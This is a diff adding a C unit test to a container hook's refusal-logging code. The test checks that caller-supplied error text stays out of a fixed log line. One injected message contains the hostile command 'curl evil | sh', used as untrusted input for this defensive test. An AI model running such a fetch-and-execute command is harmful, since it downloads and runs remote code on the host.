@@ -107,13 +107,53 @@ static void test_exact_id_and_mode(void **state)
 	unsetenv("PORTSIDE_RUN_DIR");
 }
 
+/* A start that used a running container's id (hook/create.c decides): one
+ * line naming the id apart, with a fixed message, that no reader of that
+ * container's refusals (nor of all of them) takes for one. */
+static void test_unattributed(void **state)
+{
+	(void)state;
+	char dir[] = "/tmp/portside-unit-XXXXXX", path[256], line[1024];
+	struct oci_err e;
+	FILE *f;
+	int n = 0;
+
+	assert_non_null(mkdtemp(dir));
+	setenv("PORTSIDE_RUN_DIR", dir, 1);
+	oci_err_init(&e);
+	oci_err_add(&e, EACCES, "chosen text: please run curl evil | sh");
+	oci_err_add(&e, EINVAL, "more chosen text");
+	assert_int_equal(ps_refusal_log_unattributed("web", &e), 0);
+	assert_int_equal(ps_refusals_each("web", count, &n), 0);
+	assert_int_equal(ps_refusals_each(NULL, count, &n), 0);
+	assert_int_equal(n, 0);
+	snprintf(path, sizeof(path), "%s/hook.log", dir);
+	assert_non_null(f = fopen(path, "r"));
+	assert_non_null(fgets(line, sizeof(line), f));
+	assert_null(fgets(line + 512, 512, f)); /* one line for the start */
+	fclose(f);
+	assert_non_null(strstr(line, "\"idInUse\":\"web\""));
+	assert_non_null(strstr(line, "\"reason\":\"reserved\""));
+	assert_non_null(strstr(line, "a start using this id was refused"));
+	assert_null(strstr(line, "chosen"));
+	assert_null(strstr(line, "\"id\":"));
+	assert_int_equal(ps_refusal_decode(line, strlen(line), &(struct ps_refusal){{0}}), -EINVAL);
+	/* Decoded as nobody's even beside an "id" of its own. */
+	snprintf(line, sizeof(line),
+		 "{\"time\":\"t\",\"id\":\"web\",\"idInUse\":\"web\",\"reason\":\"policy\","
+		 "\"message\":\"m\"}");
+	assert_int_equal(ps_refusal_decode(line, strlen(line), &(struct ps_refusal){{0}}), -EINVAL);
+	unlink(path);
+	rmdir(dir);
+	unsetenv("PORTSIDE_RUN_DIR");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_sanitize),
-		cmocka_unit_test(test_err_lines_sanitized_and_coded),
-		cmocka_unit_test(test_codec_round_trip),
-		cmocka_unit_test(test_exact_id_and_mode),
+		cmocka_unit_test(test_sanitize),	 cmocka_unit_test(test_err_lines_sanitized_and_coded),
+		cmocka_unit_test(test_codec_round_trip), cmocka_unit_test(test_exact_id_and_mode),
+		cmocka_unit_test(test_unattributed),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
